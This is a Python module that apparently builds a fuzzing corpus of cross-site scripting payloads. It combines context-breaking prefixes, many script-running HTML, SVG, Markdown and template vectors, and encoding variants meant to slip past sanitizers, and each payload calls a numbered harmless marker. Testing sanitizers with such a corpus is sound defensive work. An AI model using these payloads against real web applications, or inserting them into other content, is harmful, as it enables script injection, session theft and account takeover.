"""Cross-site scripting payloads: every way out of a context, times every way to run a script, times every spelling.

Each payload calls ``hit(n)`` with its own number, so that a hit names the payload.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from html import escape
from itertools import product
from urllib.parse import quote

#: What ends an attribute, an element, a comment, a string or a template, so that what follows is read as code.
BREAKERS = (
    "", '"', "'", '">', "'>", "`", "\\", '\\"', "</title>", "</script>", "</style>", "</textarea>", "</noscript>",
    "-->", "--!>", "]]>", "<!--", "<![CDATA[", "</a></li>", "</p>", "&quot;>", "&#34;>", "%22%3E", "{{", "{%", "${",
    "](", "![x](", "<", "</svg>", "</template>", "\u2028",
)  # fmt: skip
#: What runs a script when it is taken for HTML, Markdown, an address or a template; ``{}`` is the call.
VECTORS = (
    "<script>{}</script>",
    "<script src=\"data:text/javascript,{}\"></script>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to={}>",
    "<svg><use href=\"data:image/svg+xml,<svg onload={}/>\">",
    "<svg><a xlink:href=\"javascript:{}\"><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<math href=\"javascript:{}\">x</math>",
    "<iframe srcdoc=\"<script>parent.{}</script>\"></iframe>",
    "<iframe src=\"javascript:parent.{}\"></iframe>",
    "<object data=\"javascript:{}\"></object>",
    "<embed src=\"javascript:{}\">",
    "<a href=\"javascript:{}\">x</a>",
    "<a href=\"java\tscript:{}\">x</a>",
    "<a href=\" &#1;javascript:{}\">x</a>",
    "<a href=\"data:text/html,<script>{}</script>\">x</a>",
    "<form action=\"javascript:{}\"><button>x</button></form>",
    "<button formaction=\"javascript:{}\" form=x>x</button>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=\"javascript:{}//\">",
    "<link rel=stylesheet href=\"javascript:{}\">",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<scr<script>ipt>{}</scr</script>ipt>",
    " onmouseover={} x=",
    "\" onfocus=\"{}\" autofocus x=\"",
    "' onclick='{}' x='",
    "[x](javascript:{})",
    "[x](<javascript:{}>)",
    "![x](x \"onerror={}\")",
    "<javascript:{}>",
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "'-{}-'",
    "\";{};//",
    "*/{};/*",
)  # fmt: skip


def _entities(text: str) -> str:
    return "".join(f"&#x{ord(sign):x};" if sign in "<>\"'" else sign for sign in text)


def _wide(text: str) -> str:
    return text.translate({ord("<"): "\uff1c", ord(">"): "\uff1e", ord('"'): "\uff02"})


#: Ways to spell the same payload; a parser that decodes once too often is caught by one of them.
SPELLINGS: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    _entities,
    escape,
    quote,
    _wide,
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    lambda text: text.replace(" ", "/"),
    lambda text: f'<iframe src="data:text/html;base64,{base64.b64encode(text.encode()).decode()}">',
)


def payloads() -> Iterator[str]:
    """Every payload once, numbered from 0 in the order given, the spellings of one payload apart from each other."""
    seen: set[str] = set()
    for spelling, breaker, vector in product(SPELLINGS, BREAKERS, VECTORS):
        text = " ".join(spelling(breaker + vector.format(f"hit({len(seen)})")).split())
        if text not in seen:
            seen.add(text)
            yield text
